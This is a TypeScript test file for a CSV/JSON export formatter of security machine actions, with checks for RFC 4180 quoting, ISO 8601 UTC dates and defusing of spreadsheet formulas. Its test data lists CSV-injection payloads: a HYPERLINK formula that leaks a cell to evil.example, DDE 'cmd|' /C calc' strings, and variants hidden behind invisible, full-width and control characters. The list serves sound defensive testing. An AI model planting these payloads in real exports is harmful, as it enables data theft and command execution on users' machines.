// The export formatter: every field, ISO 8601 UTC dates, RFC 4180 CSV that a spreadsheet cannot execute.
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { CSV_COLUMNS, csvCell, exportActions, exportFileName, isoUtc, toExportRecord } from '../../src/model/exportActions';
import { parseMachineAction } from '../../src/defender/machineAction';
import { seedActions } from '../simulators/seedActions';
import { machineAction, rawMachineAction } from '../support/machineAction';

/** An RFC 4180 reader, independent of the writer: fields, quotes doubled inside quoted fields, CRLF records. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (c === '"') {
        quoted = false;
      } else {
        field += c;
      }
    } else if (c === '"') {
      quoted = true;
    } else if (c === ',') {
      row.push(field);
      field = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      rows.push([...row, field]);
      row = [];
      field = '';
      i++;
    } else {
      field += c;
    }
  }
  assert.equal(field + row.join(''), '', 'the text ends with CRLF');
  return rows;
}

/** Cells a spreadsheet could run as a formula; each must come out with a leading apostrophe. */
const FORMULAS = [
  '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  "+cmd|' /C calc'!A0",
  '-2+3+cmd|\' /C calc\'!A0',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '\t=1+1',
  '\r=1+1',
  '  =1+1',
  '\tplain after a tab',
  '\rplain after a carriage return',
  // Behind invisible characters (zero-width space, byte-order mark, right-to-left override, word joiner, Hangul
  // filler), which some apps skip before they look for a formula.
  '\u200b=1+1',
  '\ufeff+cmd|\' /C calc\'!A0',
  '\u202e@SUM(1+1)',
  '\u2060 -2+3',
  '\u3164=1+1',
  // Full-width and small forms, which some apps read as their ASCII twins.
  '＝HYPERLINK("http://evil.example/","Click")',
  '＋cmd|\' /C calc\'!A0',
  '－2+3',
  '＠SUM(1+1)',
  '﹦1+1',
  '\u200b\u3000＝1+1',
  // Behind controls (NUL, C0, DEL, C1 such as U+0085), which some apps drop on import (OWASP ASVS lists NUL).
  '\x00=1+1',
  '\x01=1+1',
  '\x1f+cmd|\' /C calc\'!A0',
  '\x7f@SUM(1+1)',
  '\u0085=1',
  '\x00 \u200b\x9f-2+3',
];
const HOSTILE = [...FORMULAS, 'line one\r\nline two, with "quotes"'];

/** A succeeded live response with one script run, its times as the service writes them (zoneless = UTC). */
const LIVE_RESPONSE = {
  type: 'LiveResponse',
  status: 'Succeeded',
  commands: [{
    index: 0, startTime: '2026-11-23T08:00:01.5', endTime: '2026-11-23T08:00:09.25', commandStatus: 'Completed', errors: [],
    command: { type: 'RunScript', params: [{ key: 'ScriptName', value: 'collect.ps1' }] },
  }],
};

describe('csvCell', () => {
  it('neutralises every cell a spreadsheet would run as a formula, and keeps its text after the apostrophe', () => {
    for (const value of FORMULAS) {
      const [[cell]] = parseCsv(`${csvCell(value)}\r\n`);
      assert.equal(cell, `'${value}`, JSON.stringify(value));
    }
  });

  it('leaves plain numbers alone in every form a spreadsheet reads as a number, and nothing else that starts a formula', () => {
    for (const number of ['-5', '+5', '-5.5', '-5e3', '-5E+3', '+1e-7', '-.5', '.5', '-5.', '-1,5', '-0']) {
      assert.equal(csvCell(number).replace(/^"(.*)"$/, '$1'), number, number);
    }
    for (const formula of ['-5e3+1', '-e3', '-.', '-', '+-5', '--5', '-5e', '-0x10', '-1,5,5', '-5\n=1+1', '-Infinity']) {
      assert.match(csvCell(formula), /^"?'/, JSON.stringify(formula));
    }
  });

  it('quotes a cell holding a `;` or a tab, which a spreadsheet may split on, so no formula starts a cell of its own', () => {
    assert.equal(csvCell('a;=1+1'), '"a;=1+1"');
    assert.equal(csvCell('x;@SUM(1)'), '"x;@SUM(1)"');
    assert.equal(csvCell('a\t=1+1'), '"a\t=1+1"');
    assert.deepEqual(parseCsv(`${csvCell('a;=1+1')},b\r\n`), [['a;=1+1', 'b']]);
  });

  it('quotes per RFC 4180 and leaves plain values and numbers alone', () => {
    assert.equal(csvCell('a "b", c'), '"a ""b"", c"');
    assert.equal(csvCell('two\nlines'), '"two\nlines"');
    assert.equal(csvCell('plain'), 'plain');
    assert.equal(csvCell(-2147024894), '-2147024894');
    assert.equal(csvCell('+1.5'), '+1.5');
    assert.equal(csvCell('a\u200b=b'), 'a\u200b=b', 'an invisible character and a sign inside the text');
    assert.equal(csvCell('Ａ＝1'), 'Ａ＝1', 'a full-width sign inside the text');
    assert.equal(csvCell(null), '');
    assert.equal(csvCell({ a: 1 }), '"{""a"":1}"');
  });
});

describe('isoUtc', () => {
  it('writes service date-times as ISO 8601 UTC, keeping their digits, and keeps text that is not a date', () => {
    assert.equal(isoUtc('2026-11-23T08:00:00.1234567Z'), '2026-11-23T08:00:00.1234567Z');
    assert.equal(isoUtc('2026-11-23T08:00:00'), '2026-11-23T08:00:00Z', 'no zone means UTC');
    assert.equal(isoUtc('2026-11-23 08:00'), '2026-11-23T08:00:00Z');
    assert.equal(isoUtc('2026-11-23T10:30:00.5+02:00'), '2026-11-23T08:30:00.500Z');
    assert.equal(isoUtc('yesterday'), 'yesterday');
    assert.equal(isoUtc(null), null);
  });
});

describe('exportActions', () => {
  it('writes a header of every field and one CRLF row per action, in the order given, that reads back to the same values', () => {
    const actions = seedActions(new Date('2026-11-29T08:00:00Z')).slice(0, 20).map((raw) => parseMachineAction(raw));
    const rows = parseCsv(exportActions(actions, 'csv'));
    assert.deepEqual(rows[0], [...CSV_COLUMNS]);
    assert.equal(rows.length, actions.length + 1);
    assert.deepEqual(rows.slice(1).map((r) => r[0]), actions.map((a) => a.id));
    for (const [i, a] of actions.entries()) {
      const row = Object.fromEntries(CSV_COLUMNS.map((column, c) => [column, rows[i + 1][c]]));
      assert.equal(row.requestorComment.replace(/^'/, ''), a.requestorComment ?? '');
      assert.equal(row.lastUpdateDateTimeUtc, a.lastUpdateDateTimeUtc, 'both spellings of the field land in one column');
      assert.equal(row.externalId, a.externalId ?? '');
      assert.equal(row.errorHResult, String(a.errorHResult));
      assert.equal(row['relatedFileInfo.fileIdentifier'], a.relatedFileInfo?.fileIdentifier ?? '');
      assert.deepEqual(row.commands ? JSON.parse(row.commands) : [], a.commands);
    }
  });

  it('neutralises hostile text in every free-text field of an action', () => {
    const fields = ['requestorComment', 'cancellationComment', 'title', 'requestor', 'computerDnsName', 'externalId', 'troubleshootInfo'];
    for (const value of HOSTILE) {
      const hostile = machineAction({ ...LIVE_RESPONSE, ...Object.fromEntries(fields.map((f) => [f, value])) });
      const [, row] = parseCsv(exportActions([hostile], 'csv'));
      for (const field of fields) {
        const cell = row[CSV_COLUMNS.indexOf(field as (typeof CSV_COLUMNS)[number])];
        assert.ok(!/^\s*[=+\-@]/.test(cell) && !/^[\t\r]/.test(cell), `${field} = ${JSON.stringify(cell)} could run as a formula`);
        assert.ok(!FORMULAS.includes(value) || cell.startsWith("'"), `${field} = ${JSON.stringify(cell)} is not neutralised`);
        assert.equal(cell.replace(/^'/, ''), value, `${field} keeps its text`);
      }
    }
  });

  it('writes JSON with every field of the entity, dates in ISO 8601 UTC, and the values untouched', () => {
    const a = machineAction({ ...LIVE_RESPONSE, requestorComment: HOSTILE[0], creationDateTimeUtc: '2026-11-23T08:00:00.12', troubleshootInfo: { log: 'x' } });
    const [record] = JSON.parse(exportActions([a], 'json'));
    assert.deepEqual(Object.keys(record).sort(), Object.keys(toExportRecord(a)).sort());
    assert.deepEqual(Object.keys(record).sort(), Object.keys(rawMachineAction()).sort(), 'every field of the entity (SPEC §1)');
    assert.equal(record.requestorComment, HOSTILE[0]);
    assert.equal(record.creationDateTimeUtc, '2026-11-23T08:00:00.12Z');
    assert.match(record.commands[0].startTime, /Z$/);
    assert.deepEqual(record.troubleshootInfo, { log: 'x' });
  });

  it('writes an empty list as a header only (CSV) or [] (JSON)', () => {
    assert.equal(exportActions([], 'csv'), `${CSV_COLUMNS.join(',')}\r\n`);
    assert.deepEqual(JSON.parse(exportActions([], 'json')), []);
  });

  it('suggests a file name with the UTC time', () => {
    assert.equal(exportFileName(new Date('2026-11-29T08:05:31Z'), 'csv'), 'machine-actions-2026-11-29T0805Z.csv');
  });
});
